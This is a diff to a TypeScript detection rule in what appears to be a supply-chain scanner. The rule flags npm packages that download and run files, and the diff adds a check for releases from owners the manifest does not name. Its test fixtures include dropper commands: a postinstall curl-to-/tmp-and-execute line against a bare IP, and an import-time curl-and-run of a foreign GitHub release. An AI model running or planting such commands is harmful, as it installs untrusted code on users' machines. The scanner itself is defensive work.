@@ -11,6 +11,7 @@ import { oncePerLine } from './behaviour/once.ts'
 import { unasked } from './behaviour/written.ts'
 import { destinationsInWords, findingAt, opening, quote, severityOf, mannerInWords } from './finding.ts'
 import type { RuleFinding } from './finding.ts'
+import { isForeignRepository, keeperOf } from './hosts/forge.ts'
 
 type Starts = Extract<Fact, { kind: 'starts' }>
 
@@ -23,7 +24,8 @@ export const downloadAndRun: Rule = {
     description:
       'The code fetches a file, writes it to disk and starts or loads it. Honest packages of native tools do that too: ' +
       'from the npm registry, a release page or their own host, into their own folder. From a stranger’s host, a bare ' +
-      'address or without encryption, into a hidden or temporary file, or started out of sight, it is a dropper.',
+      'address or without encryption, into a hidden or temporary file, or started out of sight, it is a dropper; so it is from ' +
+      'the releases of somebody whom its manifest does not name, on import or out of sight.',
     references: [
       'ua-parser-js 0.7.29 (2021)',
       'axios 1.14.1 (March 2026)',
@@ -41,6 +43,16 @@ export const downloadAndRun: Rule = {
           files: {
             'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh i.sh"}}',
             'i.sh': 'curl -s http://203.0.113.9/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &\n',
+          },
+        },
+        {
+          title: 'an import starts what somebody else has released',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","repository":"https://github.com/a-team/a","main":"i.js"}',
+            'i.js':
+              "const cp = require('child_process')\n" +
+              "cp.execSync('curl -sLo tool https://github.com/other-people/bin/releases/download/v1/tool && chmod +x tool && ./tool')\n",
           },
         },
       ],
@@ -81,6 +93,7 @@ export const downloadAndRun: Rule = {
           isHidden(flow, inspection, context) ||
             (isStranger(place) && flow.phase === 'install' && erases(inspection)),
           isDetached(flow, inspection),
+          isForeignRelease(place, inspection),
         )
         return action === undefined ? [] : [{ flow, place, action, severity: severityOf(action) }]
       })
@@ -166,6 +179,18 @@ function isDetached({ sink }: Flow, inspection: Inspection): boolean {
   return startsAt(inspection, sink.at).some(({ manner }) => manner.includes('detached'))
 }
 
+/** A release of somebody whom the package does not name: anybody can put files there. */
+function isForeignRelease({ kind, host }: Place, { manifest }: Inspection): boolean {
+  if (kind !== 'supply' || host === undefined) return false
+  return isForeignRepository(`${host.name}${host.path}`, manifest)
+}
+
+function whose(place: Place, inspection: Inspection): string | undefined {
+  if (!isForeignRelease(place, inspection)) return undefined
+  const keeper = keeperOf(`${place.host?.name}${place.host?.path}`)
+  return `the releases of ${keeper}, who is named nowhere in its manifest,`
+}
+
 /** A dot file, a temporary or shared folder, a name that pretends to be another kind of file. */
 function isOddPath(text: string): boolean {
   return /(?:^|[\s"'/\\])(?:\/tmp|\/var\/tmp|\/dev\/shm|\/private\/tmp|%temp%|\/ProgramData|~\/AppData|~\/Library\/Caches)\b|[/\\]\.[\w-]{1,40}(?:[\s"']|$)/i.test(
@@ -184,10 +209,17 @@ function startsAt(inspection: Inspection, at: Flow['sink']['at']): readonly Star
   )
 }
 
-function weigh(flow: Flow, place: Place, hidden: boolean, detached: boolean): Action | undefined {
+function weigh(
+  flow: Flow,
+  place: Place,
+  hidden: boolean,
+  detached: boolean,
+  foreignRelease: boolean,
+): Action | undefined {
   if (place.kind === 'local') return undefined
   const stranger = isStranger(place)
   if (isUnasked(flow) && !flow.byCall) {
+    if (foreignRelease && flow.certain && (flow.phase === 'import' || hidden)) return 'ask'
     if (place.kind === 'capture' || (stranger && (hidden || place.plain)))
       return flow.certain ? 'block' : 'ask'
     // That an answer is perhaps part of a path says little about the file that lies there.
@@ -253,7 +285,7 @@ function say(group: SightingGroup, inspection: Inspection): string {
   // What stands in an address itself is fetched from nowhere.
   const got = /^data:/i.test(flow.source.name)
     ? 'takes a file out of an address that holds it (data:)'
-    : `downloads a file from ${from}, ${placeInWords(place)},`
+    : `downloads a file from ${whose(place, inspection) ?? `${from}, ${placeInWords(place)},`}`
   const told = `${opening(flow)} ${got} and ${act}${guardsInWords(flow.guards)}.`
   return action === 'note'
     ? told
